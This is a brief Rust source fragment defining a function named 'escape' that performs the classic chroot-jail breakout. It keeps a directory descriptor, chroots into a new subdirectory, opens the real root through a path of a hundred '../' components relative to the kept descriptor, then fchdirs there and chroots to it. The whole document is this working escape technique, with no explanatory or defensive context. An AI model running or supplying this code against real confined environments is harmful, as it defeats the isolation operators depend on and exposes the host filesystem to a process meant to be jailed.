// The whole way up in one path, from a descriptor.

use std::ffi::CString;
use std::fs::{self, File};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

use anyhow::Result;
use nix::errno::Errno;
use nix::libc;
use nix::unistd::{chroot, fchdir};

fn escape() -> Result<()> {
    let up = File::open(".")?;
    fs::create_dir("deeper")?;
    chroot("deeper")?;
    let way = CString::new("../".repeat(100))?;
    let flags = libc::O_PATH | libc::O_CLOEXEC;
    // SAFETY: the kernel reads a string.
    let top = Errno::result(unsafe { libc::openat(up.as_raw_fd(), way.as_ptr(), flags) })?;
    // SAFETY: the kernel has just made this descriptor for us.
    let top = unsafe { OwnedFd::from_raw_fd(top) };
    fchdir(&top)?;
    chroot(".")?;
    Ok(())
}
